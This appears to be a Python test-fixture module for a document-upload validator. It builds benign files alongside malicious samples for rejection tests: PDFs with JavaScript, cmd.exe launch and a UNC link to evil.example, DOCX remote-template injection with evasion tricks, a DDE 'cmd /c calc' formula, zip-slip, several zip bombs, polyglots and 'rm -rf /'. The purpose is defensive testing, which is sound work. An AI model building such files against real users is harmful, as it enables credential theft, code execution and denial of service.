"""Files for the tests: good ones of each form, made here, and bad ones of each sort."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from PIL import Image

from dossier.documents.spool import Spool

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def spool(content: bytes) -> Spool:
    made = Spool()
    made.write(content)
    return made


def pdf(change: Callable[[pikepdf.Pdf], None] | None = None, **save: Any) -> bytes:
    with pikepdf.new() as made:
        made.add_blank_page()
        if change:
            change(made)
        out = io.BytesIO()
        made.save(out, **{"object_stream_mode": pikepdf.ObjectStreamMode.generate, **save})
    return out.getvalue()


def picture(form: str, size: tuple[int, int] = (40, 30)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (90, 140, 160)).save(out, form)
    return out.getvalue()


def heic() -> bytes:
    def box(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I4s", len(content) + 8, kind) + content

    sides = box(b"ispe", struct.pack(">III", 0, 4032, 3024))
    return box(b"ftyp", b"heic\0\0\0\0mif1heic") + box(b"meta", b"\0\0\0\0" + sides) + box(b"mdat", b"\1\2\3\4" * 20)


def png_chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def huge_png() -> bytes:
    """A picture of 50,000 by 50,000 that takes a few bytes on disk and ten gigabytes when it is opened."""
    head = struct.pack(">IIBBBBB", 50_000, 50_000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", head)
        + png_chunk(b"IDAT", zlib.compress(b"\0" * 1000))
        + png_chunk(b"IEND", b"")
    )


def packed(parts: dict[str, bytes], *, stored: tuple[str, ...] = ()) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in parts.items():
            file.writestr(name, content, zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED)
    return out.getvalue()


MAIN = {
    "docx": ("word/document.xml", "wordprocessingml.document"),
    "xlsx": ("xl/workbook.xml", "spreadsheetml.sheet"),
    "pptx": ("ppt/presentation.xml", "presentationml.presentation"),
}


def office(form: str = "docx", more: dict[str, bytes] | None = None, types: bytes = b"", rels: bytes = b"") -> bytes:
    name, kind = MAIN[form]
    content_type = f"application/vnd.openxmlformats-officedocument.{kind}.main+xml"
    return packed(
        {
            "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="x"><Override PartName="/'
            + name.encode() + b'" ContentType="' + content_type.encode() + b'"/>' + types + b"</Types>",
            "_rels/.rels": b'<Relationships><Relationship Id="r1" Type="http://x/officeDocument" Target="'
            + name.encode() + b'"/></Relationships>',
            name: b"<w:document><w:body><w:p>Geachte collega</w:p></w:body></w:document>",
            f"{name.partition('/')[0]}/_rels/main.rels": b"<Relationships>" + rels + b"</Relationships>",
            **(more or {}),
        }
    )  # fmt: skip


def odt(more: dict[str, bytes] | None = None, manifest: bytes = b"", kind: bytes = b"text") -> bytes:
    return packed(
        {
            "mimetype": b"application/vnd.oasis.opendocument." + kind,
            "content.xml": b"<office:document-content><office:body/></office:document-content>",
            "META-INF/manifest.xml": b"<manifest:manifest>" + manifest + b"</manifest:manifest>",
            **(more or {}),
        },
        stored=("mimetype",),
    )


GOOD: dict[str, tuple[str, bytes]] = {
    "pdf": ("pdf", pdf()),
    "pdf without object streams": ("pdf", pdf(object_stream_mode=pikepdf.ObjectStreamMode.disable)),
    "png": ("png", picture("PNG")),
    "jpeg": ("jpg", picture("JPEG")),
    "jpeg with a second picture behind it, as telephones make": ("jpg", picture("JPEG") + picture("JPEG", (8, 8))),
    "webp": ("webp", picture("WEBP")),
    "heic": ("heic", heic()),
    "docx": ("docx", office()),
    "docx with a link to click": (
        "docx",
        office(
            rels=b'<Relationship Id="r9" Type="http://x/hyperlink" Target="https://x.example" TargetMode="External"/>'
        ),
    ),
    "docx with a workbook for its chart": ("docx", office(more={"word/embeddings/sheet1.xlsx": office("xlsx")})),
    "xlsx": ("xlsx", office("xlsx")),
    "pptx": ("pptx", office("pptx")),
    "odt": ("odt", odt()),
    "text": ("txt", "Mevrouw wil graag thuis blijven wonen. Één afspraak.\r\n".encode()),
    "text with a mark before it": ("txt", b"\xef\xbb\xbfHoi"),
    "text with a smaller-than sign": ("txt", b"RR < 120, HB <6"),
}


def _javascript(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))


def _deep_javascript(made: pikepdf.Pdf) -> None:
    made.pages[0].obj.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name("/JavaScript")))


def _launch(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = made.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe")))


def _elsewhere(made: pikepdf.Pdf) -> None:
    """Opened on another machine, which is then told who opened it (and gets the sign-in of a Windows user to try)."""
    where = pikepdf.Dictionary(
        S=pikepdf.Name.GoToR, F=pikepdf.String("\\\\\\\\evil.example\\\\x"), D=pikepdf.Array([0])
    )
    made.pages[0].obj.AA = pikepdf.Dictionary(O=where)


def _attachment(made: pikepdf.Pdf) -> None:
    made.attachments["x.exe"] = b"MZ"


def _form(made: pikepdf.Pdf) -> None:
    made.Root.AcroForm = pikepdf.Dictionary(XFA=made.make_stream(b"<xdp/>"))


def _bomb() -> bytes:
    return office(more={"word/media/image1.png": b"\0" * (1100 * 1024 * 1024)})


def _bombs() -> bytes:
    """Small ones within: none of them is too much by itself."""
    one = office("xlsx", more={"xl/media/image1.png": b"\0" * (400 * 1024 * 1024)})
    return office(more={f"word/embeddings/{number}.xlsx": one for number in range(3)})


def _lying() -> bytes:
    """A zip that says of a part that it is small."""
    made = bytearray(office(more={"word/media/a.bin": b"\0" * 500_000}))
    for sign, place in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = made.rfind(
            sign, 0, made.rfind(b"word/media/a.bin") if sign == b"PK\x01\x02" else made.find(b"word/media/a.bin")
        )
        made[at + place : at + place + 4] = struct.pack("<I", 10)
    return bytes(made)


def _overlapping() -> bytes:
    """Two names for the same packed bytes, the trick of bombs that no ratio shows."""
    made = bytearray(office(more={"word/a.xml": b"<a/>" * 100, "word/b.xml": b"<b/>" * 100}))
    first = struct.pack("<I", made.find(b"word/a.xml") - 30)
    entry = made.rfind(b"word/b.xml") - 46
    made[entry + 42 : entry + 46] = first
    return bytes(made)


def _behind(content: bytes, tail: bytes) -> bytes:
    return content + tail


BAD: dict[str, tuple[Callable[[], bytes], str]] = {
    "nothing": (lambda: b"", "leeg"),
    "pdf with a script": (lambda: pdf(_javascript), "programma"),
    "pdf with a script deep in a page": (lambda: pdf(_deep_javascript), "programma"),
    "pdf that starts a program": (lambda: pdf(_launch), "programma"),
    "pdf that opens a file elsewhere": (lambda: pdf(_elsewhere), "programma"),
    "pdf with a form of its own": (lambda: pdf(_form), "programma"),
    "pdf with a file in it": (lambda: pdf(_attachment), "verpakt"),
    "pdf with a password": (lambda: pdf(encryption=pikepdf.Encryption(owner="a", user="b")), "wachtwoord"),
    "pdf that is locked for changes": (lambda: pdf(encryption=pikepdf.Encryption(owner="a", user="")), "wachtwoord"),
    "pdf cut off": (lambda: pdf()[:-30], "niet compleet"),
    "pdf that is none": (lambda: b"%PDF-1.7\nnothing here\n%%EOF", "beschadigd"),
    "pdf with a zip behind it": (lambda: _behind(pdf(), office()), "twee soorten"),
    "pdf that begins as a page": (lambda: b"%PDF-1.4\n<html><script>1</script></html>\n" + pdf()[9:], "twee soorten"),
    "zip": (lambda: packed({"a.txt": b"hoi"}), "zipbestand"),
    "docx with macros": (lambda: office(more={"word/vbaProject.bin": b"x"}), "macro"),
    "docm": (lambda: office(types=b'<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'), "macro"),
    "docx with an object to run": (lambda: office(more={"word/embeddings/oleObject1.bin": b"x"}), "macro"),
    "docx with an old document in it": (lambda: office(more={"word/media/x.bin": b"\xd0\xcf\x11\xe0" + b"x" * 20}), "macro"),
    "docx with a macro in what is packed in it": (
        lambda: office(more={"word/embeddings/a.xlsx": office("xlsx", more={"xl/vbaProject.bin": b"x"})}),
        "macro",
    ),
    "docx that fetches a template": (
        lambda: office(rels=b'<Relationship Type="http://x/attachedTemplate" TargetMode="External" Target="http://evil.example/x"/>'),
        "ander adres",
    ),
    "docx that fetches a template, its letters written as numbers": (
        lambda: office(rels=b'<Relationship Type="http://x/attachedTemplate" TargetMode="&#69;xternal" Target="http://evil.example/x"/>'),
        "ander adres",
    ),
    "docx that fetches a template behind a sign that seems to end it": (
        lambda: office(rels=b'<Relationship Id=">" Type="http://x/attachedTemplate" TargetMode="External" Target="http://evil.example/x"/>'),
        "ander adres",
    ),
    "docx that fetches a template under another name": (
        lambda: office(rels=b'<a-b:Relationship xmlns:a-b="x" Type="http://x/frame" TargetMode="External" Target="http://evil.example/x"/>'),
        "ander adres",
    ),
    "docx that fetches a template after a lot of nothing": (
        lambda: office(
            rels=b" " * (33 * 1024 * 1024)
            + b'<Relationship Type="http://x/attachedTemplate" TargetMode="External" Target="http://evil.example/x"/>'
        ),
        "ander adres",
    ),
    "docx with relations that are none": (lambda: office(rels=b"<Relationship"), "niet zuiver"),
    "xlsx that gives commands": (lambda: office("xlsx", more={"xl/worksheets/s.xml": b'<f>DDE "cmd" "/c calc"</f>'}), "macro"),
    "docx with definitions": (lambda: office(more={"word/x.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a/>'}), "niet zuiver"),
    "docx with a part outside": (lambda: office(more={"../../etc/passwd": b"x"}), "niet zuiver"),
    "docx with the same part twice": (lambda: office(more={"WORD/document.xml": b"<x/>"}), "niet zuiver"),
    "docx with a page in it": (lambda: office(more={"word/afchunk.html": b"<html>"}), "macro"),
    "docx behind something else": (lambda: b"GIF89a" + office(), "twee soorten"),
    "docx with something behind it": (lambda: _behind(office(), b"<script>"), "niet zuiver"),
    "docx cut off": (lambda: office()[:-40], "niet zuiver"),
    "odt with macros": (lambda: odt(more={"Basic/Standard/Module1.xml": b"<x/>"}), "macro"),
    "odt with a password": (lambda: odt(manifest=b"<manifest:encryption-data/>"), "wachtwoord"),
    "opendocument of another sort": (lambda: odt(kind=b"graphics"), "zipbestand"),
    "zip bomb": (_bomb, "veel meer"),
    "zip bombs within a zip": (_bombs, "veel meer"),
    "zip that lies about sizes": (_lying, "Office-bestand|veel meer"),
    "zip with overlapping parts": (_overlapping, "veel meer"),
    "old word document": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "oud Office"),
    "program": (lambda: b"MZ\x90\0" + b"\0" * 300, "programma"),
    "program for linux": (lambda: b"\x7fELF\x02" + b"\0" * 300, "programma"),
    "svg": (lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "webpagina"),
    "svg with a heading": (lambda: b'<?xml version="1.0"?>\n<svg/>', "webpagina"),
    "page": (lambda: b"<!DOCTYPE html><html><body>hoi</body></html>", "webpagina"),
    "page after a lot of text": (lambda: b"hoi " * 400_000 + b"<ScRiPt src=x>", "webpagina"),
    "shell script": (lambda: b"#!/bin/sh\nrm -rf /\n", "webpagina"),
    "rich text": (lambda: rb"{\rtf1\ansi hoi}", "webpagina"),
    "text that turns its direction": ("brief\u202efdp.exe".encode, "Dit soort"),
    "text of another encoding": (lambda: "één".encode("latin-1"), "Dit soort"),
    "gif": (lambda: b"GIF89a" + b"\0" * 60, "Dit soort"),
    "png cut off": (lambda: picture("PNG")[:-10], "beschadigd"),
    "png with a fault": (lambda: picture("PNG").replace(b"IDAT", b"IDAX"), "beschadigd"),
    "png with something behind it": (lambda: _behind(picture("PNG"), b"more"), "beschadigd"),
    "png that fills the memory": (huge_png, "beeldpunten"),
    "jpeg cut off": (lambda: picture("JPEG")[:-2], "beschadigd"),
    "jpeg with a page behind it": (lambda: _behind(picture("JPEG"), b"<script>alert(1)</script>"), "twee soorten"),
    "jpeg with a zip behind it": (lambda: _behind(picture("JPEG"), office()), "twee soorten"),
    "jpeg with a page in its remarks": (
        lambda: picture("JPEG")[:2] + b"\xff\xfe\x00\x11<html><script>a" + picture("JPEG")[2:],
        "twee soorten",
    ),
    "webp with something behind it": (lambda: _behind(picture("WEBP"), b"more"), "beschadigd"),
    "heic cut off": (lambda: heic()[:-5], "beschadigd"),
    "film": (lambda: b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom" + b"\0" * 50, "Dit soort"),
}  # fmt: skip
